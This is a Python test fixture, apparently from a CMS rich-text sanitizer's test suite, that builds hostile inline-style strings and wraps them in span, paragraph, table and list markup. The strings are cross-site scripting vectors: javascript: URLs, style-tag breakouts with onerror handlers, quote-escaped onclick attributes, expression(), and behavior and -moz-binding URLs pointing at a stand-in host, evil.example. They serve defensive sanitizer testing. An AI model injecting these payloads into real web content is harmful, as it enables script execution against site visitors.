"""Styles that are read for what they mean, and say something else besides."""

from cms.richtext.tests.hostile.payload import IMAGE

_STYLES = (
    "font-weight:bold;background:url(javascript:alert(1))",
    "font-weight:700</style><img src=x onerror=alert(1)>",
    "font-weight:bold&quot; onclick=&quot;alert(1)",
    "font-weight:bold' onclick='alert(1)",
    "font-weight:expression(alert(1))",
    "font-style:italic;behavior:url(//evil.example/x)",
    "text-decoration:underline url(//evil.example/x)",
    "text-decoration:line-through;position:fixed;inset:0",
    "vertical-align:super;-moz-binding:url(//evil.example/x)",
    "list-style-type:url(//evil.example/x)",
    "list-style-type:lower-alpha&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "mso-list:l0 level1 lfo1",
    "mso-list:l0 level9999999999 lfo1;font-weight:bold",
    "mso-list:l0 level1&lt;/p&gt; lfo1",
    "mso-list:Ignore",
    "FONT-WEIGHT:BOLD;;;:;:x;x",
    "font-weight:bold;font-weight:normal",
    "font-weight:\u0661\u0660\u0660",
    "font-weight:bold !important;font-style:italic!important;text-decoration:underline line-through",
)

STYLES = (
    *(f'<span style="{style}">a{IMAGE}b</span>' for style in _STYLES),
    *(f'<p class="MsoListParagraph" style="{style}">a{IMAGE}b' for style in _STYLES),
    *(f'<table style="{style}"><tr>a{IMAGE}<td><b style="{style}"><p>b</b></table>' for style in _STYLES),
    *(f'<ol style="{style}"><ul style="{style}"><li style="{style}">{IMAGE}<ol>x' for style in _STYLES),
    f"<b style=font-weight:normal><p>a<b>{IMAGE}</p></b><i style=font-style:normal>b</i>",
    f"<svg><style>font-weight</style><p style=font-weight:bold>{IMAGE}",
)  # fmt: skip
